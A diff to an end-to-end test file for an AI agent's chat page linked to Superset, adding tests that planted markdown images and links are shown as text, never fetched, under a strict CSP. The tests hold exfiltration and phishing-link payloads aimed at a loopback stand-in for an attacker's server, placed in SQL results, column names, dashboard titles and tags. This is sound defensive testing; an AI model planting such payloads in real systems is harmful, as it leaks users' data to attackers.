@@ -6,8 +6,10 @@
 
 import { createHash, createPrivateKey, createPublicKey, randomUUID, sign } from "node:crypto";
 import { mkdirSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
 import { join } from "node:path";
-import { chromium, type Browser, type BrowserContext, type Frame, type FrameLocator, type Locator, type Page } from "playwright-core";
+import { chromium, request, type APIRequestContext, type Browser, type BrowserContext, type Frame, type FrameLocator, type Locator, type Page } from "playwright-core";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 
 const BASE_URL = required("E2E_BASE_URL");
@@ -501,6 +503,135 @@ describe("the /agent page", () => {
   });
 });
 
+describe("what Superset and its databases hold is shown as text, never fetched or followed", () => {
+  // A listener on loopback standing for an attacker's server: an image or link that the page
+  // rendered, or fetched past its CSP, would reach it. The page would otherwise load it (no
+  // mixed content, no private-network hop: the page is on loopback too).
+  let listener: Server;
+  let leaks: string[] = [];
+  let evil = "";
+
+  beforeAll(async () => {
+    listener = createServer((incoming, response) => {
+      leaks.push(incoming.url ?? "");
+      response.writeHead(200, { "Content-Type": "image/gif" }).end();
+    });
+    await new Promise<void>((ready) => listener.listen(0, "127.0.0.1", ready));
+    evil = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
+  });
+
+  afterEach(() => {
+    leaks = [];
+  });
+
+  afterAll(async () => {
+    await new Promise((closed) => listener?.close(closed));
+  });
+
+  /** Nothing reached the listener, given the time a request takes on loopback. */
+  async function nothingFetched(): Promise<void> {
+    await new Promise((settle) => setTimeout(settle, 1500));
+    expect(leaks).toEqual([]);
+  }
+
+  it("serves the page under a strict CSP that keeps even a planted image from loading", async () => {
+    const shell = await fetch(`${BASE_URL}/agent`);
+    const header = shell.headers.get("content-security-policy") ?? "";
+    const policy = Object.fromEntries(header.split(";").map((part) => part.trim().split(/\s+/)).map(([name, ...sources]) => [name, sources]));
+    expect(policy["default-src"]).toEqual(["'self'"]);
+    expect(policy["img-src"]).toEqual(["'self'", "data:"]);
+    expect(policy["connect-src"]).toEqual(["'self'"]);
+    expect(policy["frame-ancestors"]).toEqual(expect.arrayContaining(["'self'", SUPERSET_DEV]));
+    // the page's own policy narrows scripts to its bootstrap's hash: nothing else inline runs
+    const meta = (await shell.text()).match(/<meta http-equiv="content-security-policy" content="([^"]+)">/)?.[1] ?? "";
+    expect(meta).toMatch(/script-src 'self' 'sha256-[^']+'/);
+    expect(meta).not.toMatch(/script-src[^;]*unsafe-inline/);
+
+    const page = await signedIn(ADMIN);
+    const refused: string[] = [];
+    page.on("console", (message) => {
+      if (message.type() === "error" && message.text().includes("Content Security Policy")) refused.push(message.text());
+    });
+    // should anything ever put an <img> into the page, the browser still refuses to fetch it
+    const loaded = await page.evaluate(
+      (source) =>
+        new Promise<boolean>((settled) => {
+          const image = new Image();
+          image.onload = () => settled(true);
+          image.onerror = () => settled(false);
+          image.src = source;
+          document.body.append(image);
+        }),
+      `${evil}/planted.gif?d=secret`,
+    );
+    expect(loaded).toBe(false);
+    await nothingFetched();
+    expect(refused.join("\n")).toContain("img-src");
+    // and under that policy the page works: the chat connected (signedIn) and answers
+    await ask(page, "покажи дашборды в dev");
+    await expectState(page, "success");
+  });
+
+  it("a result cell or a column carrying an image or a link is shown as its text", async () => {
+    const page = await signedIn(ADMIN);
+    const image = `![x](${evil}/leak?d=secret)`;
+    const link = `[Session expired - sign in again](${evil}/login)`;
+    await ask(page, `выполни SQL на dev в базе examples: SELECT 1 AS n, '${image}' AS c, '${link}' AS "![h](${evil}/column)"`);
+    await expectState(page, "success");
+    const answer = page.getByTestId("assistant-message").last().getByTestId("answer");
+    expect(await answer.locator("table").count()).toBe(1);
+    expect(await answer.locator("img, a").count()).toBe(0);
+    expect(await answer.locator("th, td").allTextContents()).toEqual(["n", "c", `![h](${evil}/column)`, "1", image, link]);
+    await nothingFetched();
+  });
+
+  /** Headers for a write to dev Superset's API as its admin: a token, and the CSRF token bound to
+   * the session cookie the context keeps. */
+  async function supersetWrites(superset: APIRequestContext): Promise<Record<string, string>> {
+    const login = await superset.post("/api/v1/security/login", { data: { ...SUPERSET_ADMIN, provider: "db" } });
+    const authorization = `Bearer ${(await login.json()).access_token}`;
+    const csrf = await superset.get("/api/v1/security/csrf_token/", { headers: { Authorization: authorization } });
+    return { Authorization: authorization, "X-CSRFToken": (await csrf.json()).result, Referer: SUPERSET_DEV };
+  }
+
+  it("a dashboard titled as a link and an image is named by that text, inside the agent's own link to it", async () => {
+    // a dashboard editor's title, and a tag on it, in dev Superset
+    const superset = await request.newContext({ baseURL: SUPERSET_DEV });
+    const title = `[Session expired - sign in again](${evil}/login) ![t](${evil}/title)`;
+    const tag = `[tag](${evil}/tag)`;
+    let created: number | undefined;
+    try {
+      const headers = await supersetWrites(superset);
+      const board = await superset.post("/api/v1/dashboard/", { headers, data: { dashboard_title: title, published: true } });
+      expect(board.status(), await board.text()).toBe(201);
+      created = (await board.json()).id as number;
+      const tagged = await superset.post("/api/v1/tag/", { headers, data: { name: tag, objects_to_tag: [["dashboard", created]] } });
+      expect(tagged.status(), await tagged.text()).toBe(201);
+
+      const page = await signedIn(ADMIN);
+      await ask(page, "покажи дашборды в dev");
+      await expectState(page, "success");
+      const answer = page.getByTestId("assistant-message").last().getByTestId("answer");
+      const row = answer.locator("tr", { hasText: "Session expired" });
+      expect(await row.locator("td").allTextContents()).toEqual([String(created), title, tag]);
+      // one link, the agent's own to the dashboard in dev Superset: a configured Superset's, so not
+      // marked external (the page learned its origin from ops); nothing the title or tag spelled
+      const links = await answer.locator("a").evaluateAll((anchors) => anchors.map((anchor) => [anchor.getAttribute("href"), anchor.dataset.external ?? null]));
+      expect(links.length).toBeGreaterThan(1);
+      for (const [href, external] of links) {
+        expect(href?.startsWith(`${SUPERSET_DEV}/superset/dashboard/`), String(href)).toBe(true);
+        expect(external).toBeNull();
+      }
+      expect(await row.locator("a").textContent()).toBe(title);
+      expect(await answer.locator("img").count()).toBe(0);
+      await nothingFetched();
+    } finally {
+      if (created !== undefined) await superset.delete(`/api/v1/dashboard/${created}`, { headers: await supersetWrites(superset) });
+      await superset.dispose();
+    }
+  });
+});
+
 describe("the drawer inside Superset", () => {
   /** Dev Superset at `path`, signed in there, with the drawer open and signed in to the agent. */
   async function inSuperset(path: string): Promise<{ page: Page; drawer: FrameLocator }> {
@@ -510,7 +641,9 @@ describe("the drawer inside Superset", () => {
     await page.locator("#username").fill(SUPERSET_ADMIN.username);
     await page.locator("#password").fill(SUPERSET_ADMIN.password);
     await page.locator('[data-test="login-button"]').click();
-    await page.waitForURL(/\/superset\/welcome/);
+    // signed in once Superset sends the browser to its welcome page; that page's own load (its
+    // bundles, cold in a fresh Superset, on a busy machine) is not what this waits for
+    await page.waitForURL(/\/superset\/welcome/, { waitUntil: "commit" });
     await page.goto(`${SUPERSET_DEV}${path}`);
     // the drawer's own elements are in a shadow root: Playwright's CSS locators go into it
     await page.locator("#sstools-drawer .toggle").click();
